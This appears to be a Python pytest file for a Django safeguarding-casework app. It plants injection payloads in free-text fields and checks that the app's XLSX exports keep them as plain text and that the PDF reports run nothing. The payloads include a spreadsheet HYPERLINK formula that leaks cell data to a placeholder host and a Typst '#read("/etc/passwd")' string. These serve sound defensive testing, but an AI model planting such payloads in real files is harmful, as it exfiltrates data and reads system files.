"""Every spreadsheet Vigil hands out (register exports, page and API; the escalation report; the assessment
export; the return template; the quarterly assurance report; the NHS England review list; the monitoring schedule,
the contacts directory, the section 42 enquiries and the NHS bodies not taking part in reviews) keeps text that a
user typed as text: no cell anywhere is a formula, and the typed value comes back unchanged.

Each case puts the payload in every free-text field it can reach (and in the provider's name), downloads
the file through its page or API as a user allowed to, and inspects every cell of every sheet."""

import datetime as dt
import io

import pytest
from django.db import models
from django.http import HttpResponse
from django.utils import timezone
from openpyxl import load_workbook

from casework.registers import REGISTERS
from casework.tests import factories as casework_factories
from core.choices import Role
from core.testing import make_organisation
from organisations.choices import OrganisationKind
from organisations.models import Organisation

PAYLOADS = ['=HYPERLINK("http://x/?"&B2,"Click")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"]


def as_read_back(payload):
    """The payload as stored and read back: some forms strip surrounding white space, and XML reads a bare
    carriage return as a line feed (core.spreadsheets writes it so)."""
    return {payload.replace("\r", "\n"), payload.strip()}


def free_text_fields(model, names):
    return [
        name
        for name in names
        if isinstance(model._meta.get_field(name), models.CharField | models.TextField)
        and not model._meta.get_field(name).choices
    ]


def name_provider(world, payload):
    Organisation.objects.filter(pk=world.provider.pk).update(name=payload)
    world.provider.refresh_from_db()


# --- one builder per export: (world, client_for, payload) -> the downloaded bytes -----------------------


def register_export(slug, through):
    register = next(r for r in REGISTERS if r.slug == slug)

    def download(world, client_for, payload):
        name_provider(world, payload)
        fields = dict.fromkeys(free_text_fields(register.model, register.fields), payload)
        record = casework_factories.BUILDERS[slug](world, **fields)
        reader = next(role for role in (Role.DESIGNATED, Role.EXECUTIVE, Role.HR) if role in register.readers)
        assert register.model.objects.restrict(world.user(reader)).filter(pk=record.pk).exists()
        if through == "api":
            return world.api(reader).get(f"/api/v1/casework/{slug}/export/")
        return client_for(world.user(reader)).get(f"/casework/{slug}/export/")

    return download


def escalation_report(world, client_for, payload):
    council = make_organisation(OrganisationKind.LOCAL_AUTHORITY, parent=world.icb, name=payload)
    casework_factories.escalation(world, local_authority=council, stages=[dt.date(2026, 10, 5)], case_reference=payload)
    return client_for(world.user(Role.DESIGNATED)).get("/casework/escalations/report/?year=2026&quarter=3&format=xlsx")


def assessment_export(world, client_for, payload):
    from assurance import actions as assurance_actions
    from assurance.tests import factories as assurance_factories

    name_provider(world, payload)
    cycle = assurance_factories.open_cycle(world)
    assessment = assurance_factories.assessment_of(cycle, world.provider)
    provider = world.user(Role.PROVIDER)
    responses = list(assessment.responses.all()[:2])
    answers = {responses[0]: {"rating": "partially_met", "narrative": payload}}
    answers[responses[1]] = {"rating": "not_applicable", "na_reason": payload, "narrative": payload}
    assurance_actions.do_save_responses(assessment, answers, acting_user=provider)
    responses[0].refresh_from_db()
    assurance_actions.do_add_shortfall_action(
        responses[0],
        title=payload,
        owner=payload,
        due_date=timezone.localdate() + dt.timedelta(days=30),
        success_measure=payload,
        acting_user=provider,
    )
    return client_for(provider).get(f"/assurance/assessments/{assessment.pk}/export.xlsx")


def return_template(world, client_for, payload):
    from returns import actions as returns_actions
    from returns.tests.factories import Q, entries_for

    name_provider(world, payload)
    entries = entries_for(world.provider)
    for entry in entries.values():
        entry.explanation = payload
    ret = returns_actions.get_or_start_return(provider=world.provider, quarter=Q, acting_user=None)
    returns_actions.do_save_figures(ret, entries=entries, acting_user=None)
    return client_for(world.user(Role.PROVIDER)).get(f"/returns/{ret.pk}/template.xlsx")


def assurance_report(world, client_for, payload):
    """The quarterly assurance report's XLSX appendix (reporting), built by its stored job."""
    from core import jobs
    from reporting import actions as reporting_actions
    from reporting.models import ReportType
    from returns import actions as returns_actions
    from returns.models import Metric
    from returns.tests.factories import Q, submitted_return

    name_provider(world, payload)
    designated = world.user(Role.DESIGNATED)
    ret = submitted_return(world.provider, pct=(60, 100))
    report = reporting_actions.do_create_report(
        acting_user=designated,
        report_type=ReportType.objects.get(code="quarterly-assurance"),
        financial_year=Q.fy,
        quarter=Q.q,
    )
    reporting_actions.do_save_narrative(report, key="executive-summary", text=payload, acting_user=designated)
    returns_actions.do_open_metric_action(
        ret,
        metric=Metric.objects.get(code="TRN-CH"),
        rating="red",
        title=payload,
        owner=payload,
        due_date=timezone.localdate() + dt.timedelta(days=30),
        success_measure=payload,
        acting_user=designated,
    )
    reporting_actions.do_request_build(report, acting_user=designated)
    jobs.run_pending()
    download = client_for(designated).get(f"/reporting/{report.pk}/appendix.xlsx")  # a stored file, streamed
    return HttpResponse(b"".join(download.streaming_content), status=download.status_code)


def review_list(world, client_for, payload):
    from reviews import actions as review_actions
    from reviews import rules as review_rules

    partnership = make_organisation("scp", parent=world.icb, name=payload)
    today = timezone.localdate()
    review_actions.do_open_review(
        kind="rapid_review",
        subject_reference=payload,
        lead_partnership=partnership,
        incident_date=today - dt.timedelta(days=20),
        notification_date=today,
        acting_user=world.user(Role.DESIGNATED),
    )
    year, quarter = review_rules.financial_quarter(today)
    return client_for(world.user(Role.DESIGNATED)).get(f"/reviews/notifications/xlsx/?year={year}&quarter={quarter}")


def governance_register(path):
    def build(world, client_for, payload):
        from governance import actions as governance_actions

        designated = world.user(Role.DESIGNATED)
        today = timezone.localdate()
        governance_actions.do_add_policy(
            acting_user=designated, title=payload, owner=payload, document_version="1", approved_on=today
        )
        governance_actions.do_add_risk(
            acting_user=designated,
            title=payload,
            owner=payload,
            initial_likelihood=3,
            initial_consequence=3,
            current_likelihood=3,
            current_consequence=3,
            target_likelihood=1,
            target_consequence=1,
            review_date=today + dt.timedelta(days=30),
        )
        return client_for(designated).get(path)

    return build


def commissioning_register(world, client_for, payload):
    from organisations.tests import commissioning_factories as f

    name_provider(world, payload)
    built = f.build(world)
    f.consultation(built["event"], "procurement", professional=payload, advice=payload)
    f.event(world.icb, title=payload, commissioner=payload, specification_signed_off_by="")
    f.specification(built["contract"], title=payload)
    f.subcontractor(built["contract"], name=payload, services=payload)
    f.notification(built["contract"], world.other_icb, summary=payload)
    return client_for(world.user(Role.CONTRACTS)).get("/organisations/commissioning/xlsx/")


def regional_roll_up(world, client_for, payload):
    """The region's roll-up: the ICB's name and its assurance cycle's period are text a user typed."""
    from assurance.tests import factories as assurance_factories

    Organisation.objects.filter(pk=world.icb.pk).update(name=payload)
    assurance_factories.open_cycle(world, period=payload)
    return client_for(world.user(Role.REGIONAL)).get(f"/regions/{world.region.pk}/xlsx/")


def inspection_register(world, client_for, payload):
    from assurance import actions as assurance_actions

    designated = world.user(Role.DESIGNATED)
    today = timezone.localdate()
    inspection = assurance_actions.do_record_inspection(
        organisation=world.provider,
        body="cqc",
        kind="cqc_inspection",
        title=payload,
        started_on=today,
        findings=payload,
        acting_user=designated,
    )
    assurance_actions.do_record_notice(
        provider=world.provider,
        inspection=inspection,
        kind="requirement",
        issued_on=today,
        summary=payload,
        acting_user=designated,
    )
    assurance_actions.do_record_registration(
        provider=world.provider, registration_id=payload[:30], conditions=payload, acting_user=designated
    )
    return client_for(designated).get("/assurance/inspections/xlsx/")


def _report_snapshot(world, payload):
    """A snapshot of every generated section with the payload in every free text a report can show."""
    from governance.tests.conftest import build_records
    from reporting.sections import SECTIONS, build_snapshot
    from returns.tests.factories import Q, submitted_return

    name_provider(world, payload)
    designated = world.user(Role.DESIGNATED)
    submitted_return(world.provider, pct=(60, 100))
    build_records(world.icb, [world.provider, world.other_provider], designated, Q.end)
    from governance import actions as governance_actions

    governance_actions.do_add_risk(
        acting_user=designated,
        title=payload,
        owner=payload,
        initial_likelihood=3,
        initial_consequence=3,
        current_likelihood=3,
        current_consequence=3,
        target_likelihood=1,
        target_consequence=1,
        review_date=Q.end + dt.timedelta(days=30),
    )
    keys = [key for key in SECTIONS if key != "regions"]
    report_type = {
        "code": "annual-safeguarding",
        "title": payload,
        "audience": payload,
        "sections": [{"key": "summary", "title": payload, "kind": "narrative"}]
        + [{"key": key, "title": SECTIONS[key].title, "kind": "generated"} for key in keys],
    }
    return build_snapshot(
        organisation=world.icb,
        report_type=report_type,
        period_start=Q.start,
        period_end=Q.end,
        as_at=timezone.now(),
        narratives={"summary": payload},
    )


class Downloaded:
    """A file built without a page (the reporting app's pages serve these): what the checks below read."""

    status_code = 200

    def __init__(self, content):
        self.content = content


def report_appendix(world, client_for, payload):
    from reporting.spreadsheets import appendix_xlsx

    return Downloaded(appendix_xlsx(_report_snapshot(world, payload)))


def nhs_england_assurance(world, client_for, payload):
    from reporting.spreadsheets import nhse_assurance_xlsx
    from returns.tests.factories import Q

    name_provider(world, payload)
    return Downloaded(nhse_assurance_xlsx(icb=world.icb, period_start=Q.start, period_end=Q.end, as_at=timezone.now()))


def monitoring_schedule(world, client_for, payload):
    from governance import actions as governance_actions

    designated = world.user(Role.DESIGNATED)
    today = timezone.localdate()
    check = governance_actions.do_add_monitoring_check(
        acting_user=designated,
        title=payload,
        purpose=payload,
        owner=payload,
        frequency_months=3,
        oversight=payload,
        source=payload,
        first_due_on=today,
    )
    governance_actions.do_record_check_done(
        check, done_on=today, done_by=payload, outcome="assured", findings=payload, acting_user=designated
    )
    return client_for(designated).get("/governance/monitoring/xlsx/")


def contacts_directory(world, client_for, payload):
    from organisations import actions as organisation_actions

    council = make_organisation(OrganisationKind.LOCAL_AUTHORITY, parent=world.icb, name=payload)
    organisation_actions.do_add_contact(
        organisation=council,
        service="spa",
        team=payload,
        phone="01632 960100",
        hours=payload,
        notes=payload,
        acting_user=world.user(Role.DESIGNATED),
    )
    return client_for(world.user(Role.PROVIDER)).get("/organisations/contacts/xlsx/")


def review_records(path):
    def build(world, client_for, payload):
        from reviews import actions as review_actions

        designated = world.user(Role.DESIGNATED)
        today = timezone.localdate()
        partnership = make_organisation("sab", parent=world.icb, name=payload)
        council = make_organisation(OrganisationKind.LOCAL_AUTHORITY, parent=world.icb, name=payload)
        name_provider(world, payload)
        review = review_actions.do_open_review(
            kind="sar",
            subject_reference=payload,
            lead_partnership=partnership,
            incident_date=today - dt.timedelta(days=40),
            notification_date=today - dt.timedelta(days=30),
            acting_user=designated,
        )
        review_actions.do_record_non_participation(
            review,
            organisation=world.provider,
            noted_on=today,
            reason=payload,
            escalation_note=payload,
            acting_user=designated,
        )
        review_actions.do_record_enquiry(
            local_authority=council,
            reference=payload,
            subject_reference=payload,
            opened_on=today,
            outcome=payload,
            reviews=[review],
            acknowledge_identifiers=True,
            acting_user=designated,
        )
        return client_for(designated).get(path)

    return build


def signals_tasks(world, client_for, payload):
    from signals import actions as signals_actions
    from signals.models import ReviewTask
    from signals.tests.ui_support import seed

    provider = world.user(Role.PROVIDER)
    seed(world.provider, provider)
    task = ReviewTask.objects.filter(organisation=world.provider).first()
    signals_actions.do_record_outcome(task, outcome="nfa", notes=payload, acting_user=provider)
    return client_for(provider).get("/signals/tasks/xlsx/")


EXPORTS = {
    **{f"casework-{r.slug}-page": register_export(r.slug, "page") for r in REGISTERS},
    **{f"casework-{r.slug}-api": register_export(r.slug, "api") for r in REGISTERS},
    "casework-escalation-report": escalation_report,
    "assurance-assessment-export": assessment_export,
    "returns-template": return_template,
    "reporting-quarterly-appendix": assurance_report,
    "reviews-notification-list": review_list,
    "governance-policies": governance_register("/governance/policies/xlsx/"),
    "governance-risks": governance_register("/governance/risks/xlsx/"),
    "organisations-commissioning": commissioning_register,
    "regions-roll-up": regional_roll_up,
    "assurance-inspection-register": inspection_register,
    "reporting-appendix": report_appendix,
    "reporting-nhs-england-assurance": nhs_england_assurance,
    "governance-monitoring-schedule": monitoring_schedule,
    "organisations-contacts": contacts_directory,
    "reviews-s42-enquiries": review_records("/reviews/enquiries/xlsx/"),
    "reviews-nhs-participation": review_records("/reviews/non-participation/xlsx/"),
    "signals-review-tasks": signals_tasks,
}


@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("export", EXPORTS)
def test_no_cell_of_any_export_is_a_formula(world, client_for, export, payload):
    response = EXPORTS[export](world, client_for, payload)
    assert response.status_code == 200, response.content[:300]
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    typed = [cell for cell in cells if cell.value in as_read_back(payload)]
    assert typed, "the payload should be in the file, unchanged"
    assert all(cell.data_type == "s" for cell in typed)


@pytest.mark.parametrize("export", EXPORTS)
def test_every_table_of_every_export_has_a_bold_frozen_filtered_header_and_widths(world, client_for, export):
    book = load_workbook(io.BytesIO(EXPORTS[export](world, client_for, "Synthetic text").content))
    for sheet in (s for s in book.worksheets if s.sheet_state == "visible"):
        first_row = int(sheet.freeze_panes.lstrip("A"))
        header = [cell for cell in sheet[first_row - 1] if cell.value is not None]
        assert header and all(cell.font.b for cell in header), sheet.title
        assert sheet.auto_filter.ref.startswith(f"A{first_row - 1}:"), sheet.title
        assert all(sheet.column_dimensions[cell.column_letter].customWidth for cell in header), sheet.title


def test_a_register_export_keeps_dates_as_dates_with_a_date_format(world, client_for):
    casework_factories.allegation(world, made_on=dt.date(2026, 11, 20))
    response = client_for(world.user(Role.DESIGNATED)).get("/casework/allegations/export/")
    sheet = load_workbook(io.BytesIO(response.content)).active
    made_on = next(cell for cell in sheet[1] if cell.value == "Date the allegation was made").column_letter
    cell = sheet[f"{made_on}2"]
    assert (cell.value.date(), cell.number_format) == (dt.date(2026, 11, 20), "DD/MM/YYYY")


TYPST_MARKUP = '#eval("1+1") $x^2$ *b* _i_ [x] <l> @r \\ #read("/etc/passwd") #set text(red)'


def test_a_report_pdf_prints_typed_text_as_itself_and_runs_nothing(world):
    """Text typed into any field reaches the PDF as text: Typst never reads it as markup, and the PDF has no
    script, launch or open action."""
    from pypdf import PdfReader

    from reporting.typeset import render_pdf

    pdf = render_pdf(_report_snapshot(world, TYPST_MARKUP), status_label="Draft", version=1, draft=True)
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).replace("\n", " ")
    assert '#eval("1+1")' in text and '#read("/etc/passwd")' in text and "$x^2$" in text
    for marker in (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/EmbeddedFile"):
        assert marker not in pdf
